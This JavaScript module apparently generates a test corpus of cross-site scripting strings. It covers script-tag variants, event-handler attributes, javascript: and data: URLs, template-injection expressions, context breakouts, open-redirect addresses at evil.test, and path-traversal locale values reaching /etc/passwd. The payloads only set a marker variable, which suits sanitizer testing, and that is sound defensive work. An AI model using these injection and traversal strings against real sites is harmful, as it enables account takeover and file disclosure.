// Strings that become scripts where a page is careless. All of them would set
// window.ran or open a dialog.

const run = "window.ran=1";

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script >${run}</script >`, `<script/x>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`, `<script\n>${run}</script>`, `<script>alert(1)</script>`,
  `<template><script>${run}</script></template>`, `<math><mtext><script>${run}</script></mtext></math>`,
];

const handlers = ["onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter"];
const elements = [
  (on) => `<img src=x ${on}=${run}>`, (on) => `<svg ${on}=${run}>`, (on) => `<svg/${on}="${run}"/>`,
  (on) => `<input autofocus ${on}=${run}>`, (on) => `<details open ${on}=${run}>x</details>`,
  (on) => `<body ${on}=${run}>`, (on) => `<style ${on}=${run}></style>`, (on) => `<iframe ${on}=${run}></iframe>`,
];

const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, ` javascript:${run}`, `javascript://x%0a${run}`,
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`, `vbscript:${run}`,
  `//evil.test/${run}`, `/\\evil.test`, `https://evil.test/?${run}`,
];

const templates = [
  `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{%${run}%}`,
  `{{.Secret}}`, `{{template "top"}}`, `[[${run}]]`, `@{${run}}`,
];

const breakouts = [
  (x) => x, (x) => `"${x}`, (x) => `'${x}`, (x) => `">${x}`, (x) => `'>${x}`, (x) => `</title>${x}`, (x) => `</textarea>${x}`,
  (x) => `-->${x}`, (x) => `]]>${x}`,
];

// outOfText are the ways out of where an element would be mere text.
const outOfText = [(x) => x, (x) => `">${x}`, (x) => `'>${x}`, (x) => `</title>${x}`, (x) => `</textarea>${x}`];

const inScripts = [
  "</script>", "</SCRIPT >", "<!--", "\u2028", "\u2029", "\\u003c/script\\u003e", "\\x3c/script\\x3e", "\u0000", "\ufeff",
].flatMap((cut) => [`${cut}<script>${run}</script>`, `"${cut};${run};//`, `';${cut}${run};//`]);

const inAttributes = handlers.flatMap((on) => [`" ${on}=${run} x="`, `' ${on}=${run} x='`, ` ${on}=${run} `, `\` ${on}=${run} \``]);

const locales = ["../../../../etc/passwd", "..\\..\\en", "en\u0000", "en.html", "%2e%2e%2fen", "en-US-x-<b>", "{{.}}", "zz-ZZ"];

// payloads are all of them, each once.
export const payloads = [...new Set([
  ...scripts.flatMap((x) => breakouts.map((out) => out(x))),
  ...elements.flatMap((element) => handlers.flatMap((on) => outOfText.map((out) => out(element(on))))),
  ...addresses, ...templates, ...inScripts, ...inAttributes, ...locales,
])];
